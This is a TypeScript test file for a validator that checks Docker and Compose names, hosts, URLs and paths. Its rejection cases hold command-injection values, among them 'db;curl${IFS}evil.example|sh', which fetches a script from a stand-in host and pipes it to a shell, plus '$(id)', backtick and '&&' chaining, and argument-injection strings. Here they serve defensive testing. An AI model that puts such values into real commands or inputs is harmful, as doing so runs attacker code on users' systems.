import { describe, expect, it } from 'vitest';
import { nameProblem } from '../../../src/shared/model/index.ts';

describe('nameProblem', () => {
  it('accepts the names Docker, Compose and DNS accept', () => {
    expect(nameProblem('container', 'shop_devcontainer-dev-1')).toBeNull();
    expect(nameProblem('network', 'shop_backend')).toBeNull();
    expect(nameProblem('service', 'orchestrator.v2')).toBeNull();
    expect(nameProblem('project', 'shop_2-x')).toBeNull();
    expect(nameProblem('host', 'api.internal.example')).toBeNull();
    expect(nameProblem('host', '10.0.0.7')).toBeNull();
    expect(nameProblem('host', 'fe80::1')).toBeNull();
    expect(nameProblem('url', 'http://api:8080/health?x=1&y=$(id)')).toBeNull();
    expect(nameProblem('url', 'http://[::1]:8006/')).toBeNull();
  });

  it('refuses shell metacharacters, quotes, spaces, line breaks and a leading dash, naming what is accepted', () => {
    for (const name of ['db;curl${IFS}evil.example|sh', "it's", 'a"b', '$(id)', '`id`', 'x\nid', 'two words', '-rm', '', '.hidden']) {
      expect(nameProblem('container', name), JSON.stringify(name)).toContain('is not valid');
      expect(nameProblem('host', name), JSON.stringify(name)).toContain('is not valid');
    }
    expect(nameProblem('project', 'Shop')).toContain('[a-z0-9][a-z0-9_-]*');
    expect(nameProblem('host', '-s')).toContain('never a leading `-`');
    expect(nameProblem('host', 'x&&id&&y')).toContain('"x&&id&&y"');
    expect(nameProblem('url', 'http://x&&id&&y:80/')).not.toBeNull();
    expect(nameProblem('url', "http://api/'x'")).not.toBeNull();
    expect(nameProblem('url', 'ftp://api/')).not.toBeNull();
    expect(nameProblem('path', '--help')).not.toBeNull();
    expect(nameProblem('path', '/w/my stack/compose.yaml')).toBeNull();
  });
});
